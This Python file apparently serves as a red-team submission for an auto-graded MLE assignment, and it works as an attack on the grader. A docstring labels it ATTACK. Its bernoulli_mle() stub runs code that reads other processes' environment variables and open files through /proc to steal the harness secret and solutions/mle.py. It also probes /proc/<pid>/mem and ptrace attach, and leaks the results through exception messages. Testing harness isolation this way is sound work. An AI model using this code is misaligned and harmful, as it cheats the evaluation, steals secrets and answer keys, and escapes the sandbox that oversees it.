"""ATTACK: look at the grader through /proc and the environment — every visible process's
cmdline, environ, cwd, root, open fds and maps; /proc/<pid>/root/… and /proc/<pid>/cwd/… to
reach the grader's files; /proc/<pid>/mem and ptrace on processes of other users; the mount
table for host paths; and the worker's own environment variables (the harness puts a secret
in the grader's environment). Everything found is leaked through error messages.

honest part: 0 points

proof: bernoulli_mle() raised RuntimeError: RT-RAN
"""
import ctypes
import os

SECRET_NAME = "@@SECRET_NAME@@"
COURSE = "@@COURSE@@"


def _read(path, n=4000):
    try:
        with open(path, "rb") as f:
            return f.read(n).decode("utf-8", "replace")
    except OSError:
        return None


def _look():
    found = []
    if SECRET_NAME in os.environ:
        found.append("env " + os.environ[SECRET_NAME])
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == os.getpid():
            continue
        env = _read(f"/proc/{pid}/environ", 100_000)
        if env and SECRET_NAME in env:
            found.append(f"environ of {pid}: {env[:2000]}")
        for rel in ("cwd", "root"):
            for sub in ("solutions/mle.py", COURSE.lstrip("/") + "/solutions/mle.py"):
                text = _read(f"/proc/{pid}/{rel}/{sub}")
                if text:
                    found.append(f"/proc/{pid}/{rel}/{sub}: {text}")
        try:
            for fd in os.listdir(f"/proc/{pid}/fd"):
                target = os.readlink(f"/proc/{pid}/fd/{fd}")
                if "solutions" in target or target.endswith(".py"):
                    text = _read(f"/proc/{pid}/fd/{fd}")
                    if text:
                        found.append(f"fd {pid}/{fd} -> {target}: {text}")
        except OSError:
            pass
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in os.listdir("/proc"):  # processes that are not the sandbox's own
        if not pid.isdigit():
            continue
        try:
            if os.stat(f"/proc/{pid}").st_uid == os.getuid():
                continue
        except OSError:
            continue
        try:
            with open(f"/proc/{pid}/mem", "rb") as f:
                f.read(1)
            found.append(f"memory of process {pid} readable")
        except OSError:
            pass
        if libc.ptrace(16, int(pid), 0, 0) == 0:  # PTRACE_ATTACH
            found.append(f"ptrace attach to {pid} worked")
    return found


def _leak():
    found = _look()
    if found:
        raise RuntimeError("RT-ESCAPED " + "\n".join(found)[:20000])
    raise RuntimeError("RT-RAN found nothing through /proc")


def bernoulli_log_likelihood(theta, x):
    raise NotImplementedError


def bernoulli_mle(x):
    _leak()


def gaussian_log_pdf(x, mu, var):
    raise NotImplementedError


def gaussian_mle(x):
    raise NotImplementedError


def mvn_mle(x):
    raise NotImplementedError


def mvn_log_pdf(x, mu, cov):
    raise NotImplementedError("write your solution here")
